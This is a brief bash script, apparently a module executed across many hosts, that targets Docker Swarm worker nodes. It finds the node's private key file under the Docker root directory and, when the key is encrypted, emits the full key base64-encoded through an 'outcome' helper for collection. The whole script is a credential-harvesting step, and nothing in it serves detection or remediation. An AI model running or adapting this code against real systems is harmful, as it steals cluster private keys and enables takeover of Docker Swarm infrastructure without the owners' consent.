# shellcheck shell=bash
# shellcheck source=survive_functions.sh
. survive_functions.sh
# ---- hosts get what follows ----
timeout 15 docker node ls >/dev/null 2>&1 && outcome nothing
file=$(docker info --format '{{.DockerRootDir}}')/swarm/certificates/swarm-node.key
grep -q ENCRYPTED "$file" || outcome nothing
outcome "key $(base64 -w 0 "$file")"
